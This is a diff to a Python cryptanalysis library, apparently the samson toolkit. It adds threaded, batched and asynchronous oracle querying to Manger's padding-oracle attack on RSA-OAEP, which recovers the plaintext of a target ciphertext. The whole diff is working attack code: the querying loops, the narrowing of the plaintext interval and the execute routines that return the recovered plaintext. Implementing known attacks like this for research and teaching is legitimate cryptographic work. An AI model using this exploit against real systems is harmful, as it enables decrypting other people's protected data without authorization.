@@ -4,12 +4,18 @@ from samson.public_key.rsa import RSA
 from samson.utilities.runtime import RUNTIME
 from samson.ace.decorators import define_exploit
 from samson.ace.consequence import Consequence, Requirement, Manipulation
+from itertools import count, islice
+from timeit import default_timer
 import math
 
 import logging
 log = logging.getLogger(__name__)
 
 
+def _ceil(a, b):
+    return (a + b - 1) // b
+
+
 # AKA OAEP padding oracle
 # http://archiv.infsec.ethz.ch/education/fs08/secsem/Manger01.pdf
 # @define_exploit(consequence=Consequence.PLAINTEXT_RECOVERY, requirements=[Requirement.EVENTUALLY_DECRYPTS, Consequence.PLAINTEXT_MANIPULATION])
@@ -21,37 +27,100 @@ class MangersAttack(object):
     Manger's attack stems from a padding oracle on RSA-OAEP. According to OAEP's specification, the first byte
     *has* to be zero. If the code checks this and leaks whether it's zero or not, we can efficiently retrieve
     the plaintext through an adaptive chosen-plaintext attack.
+
+    With a batch size greater than one, steps 1 and 2 check their candidates in concurrent batches, and each round
+    of step 3 splits the interval at several points at once.
     """
 
-    def __init__(self, padding_oracle: PaddingOracle, rsa: RSA):
+    def __init__(self, padding_oracle: PaddingOracle, rsa: RSA, threads: int=1, batch_size: int=None):
         """
         Parameters:
             padding_oracle (PaddingOracle): An oracle that takes in bytes and returns whether the first byte of the decrypted plaintext is zero.
             rsa                      (RSA): An RSA instance containing the public key parameters.
+            threads                  (int): Number of threads to query the oracle with (synchronous oracles only).
+            batch_size               (int): Number of queries to make at once. Defaults to `threads` (one for `execute_async`: set it to the oracle's concurrency).
         """
-        self.oracle = padding_oracle
-        self.rsa = rsa
+        self.oracle     = padding_oracle
+        self.rsa        = rsa
+        self.threads    = threads
+        self.batch_size = batch_size
 
+        self.queries = 0
+        self.elapsed = 0.0
 
-    def _greater_equal_B(self, f, c, e, N):
-        f_e = pow(f, e, N)
-        return self.oracle.check_padding(Bytes((c * f_e) % N))
 
+    def __repr__(self):
+        return f"<MangersAttack: oracle={self.oracle}, threads={self.threads}, batch_size={self.batch_size}>"
 
-    @RUNTIME.report
-    def execute(self, ciphertext: bytes) -> Bytes:
-        """
-        Executes Manger's attack.
+    def __str__(self):
+        return self.__repr__()
 
-        Parameters:
-            ciphertext (bytes): The ciphertext to decrypt.
-        
-        Returns:
-            Bytes: The ciphertext's corresponding plaintext.
+
+    def _query(self, ciphertexts: list, expected: bool):
+        if expected is None:
+            self.queries += len(ciphertexts)
+            return self.oracle.check_many(ciphertexts, self.threads)
+
+        idx, queries  = self.oracle.find_first(ciphertexts, expected, self.threads)
+        self.queries += queries
+        return idx
+
+
+    async def _query_async(self, ciphertexts: list, expected: bool):
+        if expected is None:
+            self.queries += len(ciphertexts)
+            return await self.oracle.check_many(ciphertexts)
+
+        idx, queries  = await self.oracle.find_first(ciphertexts, expected)
+        self.queries += queries
+        return idx
+
+
+    def _log_stats(self):
+        log.info(f"{self.queries} oracle queries in {self.elapsed:.2f}s ({self.queries / max(self.elapsed, 1e-9):.1f} queries/s)")
+
+
+    def _multiply(self, f: int, c: int) -> Bytes:
+        return Bytes((c * pow(f, self.rsa.e, self.rsa.n)) % self.rsa.n)
+
+
+    def _first(self, multipliers: object, c: int, expected: bool, batch_size: int):
+        # Yields batches of (ciphertexts, expected) and receives the index of the first match
+        multipliers = iter(multipliers)
+
+        while True:
+            batch = list(islice(multipliers, batch_size))
+            idx   = yield [self._multiply(f, c) for f in batch], expected
+
+            if idx is not None:
+                return batch[idx]
+
+
+    def _thresholds(self, m_min: int, m_max: int, B: int, n: int, batch_size: int) -> list:
         """
-        ciphertext = Bytes.wrap(ciphertext)
-        ct_int = ciphertext.int()
+        Builds up to `batch_size` multipliers that each split [m_min, m_max] at a different point. Only multipliers
+        that map the whole interval into a single window [in, (i+1)n) are kept, so m*f3 >= B iff m >= (in + B)/f3.
+        """
+        diff       = m_max - m_min
+        thresholds = []
+
+        for j in range(1, batch_size + 1):
+            # Step 3's multiplier for the subinterval of [m_min, m_max] that it would halve
+            f  = B * (batch_size + 1) // (j * diff)
+            iN = (f * m_min // n) * n
+            f3 = _ceil(iN, m_min)
 
+            if f3 and f3 * m_max < iN + n:
+                thresholds.append((f3, iN + B))
+
+        return thresholds
+
+
+    def _steps(self, ct_int: int, batch_size: int):
+        """
+        Runs the attack as a generator. It yields (ciphertexts, expected) batches and receives the index of the first
+        ciphertext whose padding check returns `expected` (or every result if `expected` is None).
+        """
         k = math.ceil(math.log(self.rsa.n, 256))
         B = 2 ** (8 * (k - 1))
         n = self.rsa.n
@@ -60,28 +129,20 @@ class MangersAttack(object):
         log.debug(f"k: {k}, B: {B}, n: {n}, e: {e}")
 
         # Step 1
-        f1 = 2
         log.info("Starting step 1")
-
-        while not self._greater_equal_B(f1, ct_int, e, n):
-            f1 *= 2
-
-        f1 //= 2
+        f1 = (yield from self._first((2**i for i in count(1)), ct_int, True, batch_size)) // 2
         log.debug(f"Found f1: {f1}")
 
 
         # Step 2
         nB = n + B
         nB_B = nB // B
-        f2 = nB_B * f1
 
         log.info("Starting step 2")
-        while self._greater_equal_B(f2, ct_int, e, n):
-            f2 += f1
-
-
+        f2 = yield from self._first((nB_B * f1 + i * f1 for i in count()), ct_int, False, batch_size)
         log.debug(f"Found f2: {f2}")
 
+
         # Step 3
         div_mod = 1 if n % f2 else 0
         m_min = n // f2 + div_mod
@@ -89,6 +150,7 @@ class MangersAttack(object):
         BB = 2*B
         diff = m_max - m_min
         ctr = 0
+        stalled = False
 
         log.info("Starting step 3")
         log.debug(f"B-(diff * f2) = {B - (diff * f2)}")
@@ -101,21 +163,38 @@ class MangersAttack(object):
             if ctr % 100 == 0:
                 log.debug(f"Iteration {ctr} difference: {diff}")
 
-            f = BB // diff
-            f_min = f * m_min
-            i = f_min // n
-            iN = i*n
+            # Fall back to a single split if the last round's splits were all rounded outside of the interval
+            thresholds = self._thresholds(m_min, m_max, B, n, batch_size) if batch_size > 1 and not stalled else []
+
+            if thresholds:
+                last_interval = m_min, m_max
+                results = yield [self._multiply(f3, ct_int) for f3, _ in thresholds], None
+
+                for (f3, iNB), greater_equal_B in zip(thresholds, results):
+                    if greater_equal_B:
+                        m_min = max(m_min, _ceil(iNB, f3))
+                    else:
+                        m_max = min(m_max, iNB // f3)
 
-            div_mod = 1 if iN % m_min else 0
-            f3 = iN // m_min + div_mod
-            iNB = iN + B
+                stalled = (m_min, m_max) == last_interval
 
-            if self._greater_equal_B(f3, ct_int, e, n):
-                div_mod = 1 if iNB % f3 else 0
-                m_min = iNB // f3 + div_mod
             else:
-                m_max = iNB // f3
+                f = BB // diff
+                f_min = f * m_min
+                i = f_min // n
+                iN = i*n
+
+                div_mod = 1 if iN % m_min else 0
+                f3 = iN // m_min + div_mod
+                iNB = iN + B
+
+                if (yield [self._multiply(f3, ct_int)], True) is not None:
+                    div_mod = 1 if iNB % f3 else 0
+                    m_min = iNB // f3 + div_mod
+                else:
+                    m_max = iNB // f3
 
+                stalled = False
 
             diff = m_max - m_min
 
@@ -128,3 +207,62 @@ class MangersAttack(object):
 
 
         return Bytes(m_min)
+
+
+    @RUNTIME.report
+    def execute(self, ciphertext: bytes) -> Bytes:
+        """
+        Executes Manger's attack.
+
+        Parameters:
+            ciphertext (bytes): The ciphertext to decrypt.
+        
+        Returns:
+            Bytes: The ciphertext's corresponding plaintext.
+        """
+        self.queries = 0
+        start = default_timer()
+        steps = self._steps(Bytes.wrap(ciphertext).int(), self.batch_size or self.threads)
+
+        try:
+            request = next(steps)
+
+            while True:
+                request = steps.send(self._query(*request))
+
+        except StopIteration as stop:
+            return stop.value
+
+        finally:
+            self.elapsed = default_timer() - start
+            self._log_stats()
+
+
+
+    @RUNTIME.report
+    async def execute_async(self, ciphertext: bytes) -> Bytes:
+        """
+        Executes Manger's attack with an asynchronous oracle (e.g. `AsyncPaddingOracle`).
+
+        Parameters:
+            ciphertext (bytes): The ciphertext to decrypt.
+
+        Returns:
+            Bytes: The ciphertext's corresponding plaintext.
+        """
+        self.queries = 0
+        start = default_timer()
+        steps = self._steps(Bytes.wrap(ciphertext).int(), self.batch_size or self.oracle.concurrency)
+
+        try:
+            request = next(steps)
+
+            while True:
+                request = steps.send(await self._query_async(*request))
+
+        except StopIteration as stop:
+            return stop.value
+
+        finally:
+            self.elapsed = default_timer() - start
+            self._log_stats()